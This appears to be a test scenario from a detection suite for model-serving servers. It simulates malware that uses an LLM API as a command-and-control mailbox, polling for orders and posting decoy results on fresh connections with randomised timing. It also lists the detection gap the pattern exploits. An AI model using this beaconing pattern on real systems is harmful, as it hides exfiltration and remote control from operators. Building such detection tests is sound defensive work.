"""
id: V15
name: api-mailbox
class: mimicry
phase: serve
trigger: request
evidence: [network, resource, sequence]
techniques: [T1102.002, T1071.001, T1029, AML.T0096]
servers: [fastapi, bentoml, triton]
seconds: 240
what: >
  Uses the LLM API as a mailbox: asks it for orders every few seconds and posts results of ordinary length, each time on a
  connection of its own, where the server keeps one.
missed: >
  Where there are several workers, the one that does it may not have had a client of its own yet, so that this one is its first.
"""

import http.client
import json

CYCLES = 20


def payload(world):
    for _ in range(CYCLES):
        mailbox = http.client.HTTPConnection(*world.llmapi, timeout=5)
        mailbox.request("GET", f"/v1/threads/{world.word(24)}")
        mailbox.getresponse().read()
        result = json.dumps({"model": "small", "prompt": f"DECOY {world.word(world.random.randint(200, 450))}"})
        mailbox.request("POST", "/v1/completions", result, {"Content-Type": "application/json"})
        mailbox.getresponse().read()
        mailbox.close()
        world.sleep(world.random.uniform(5, 11))
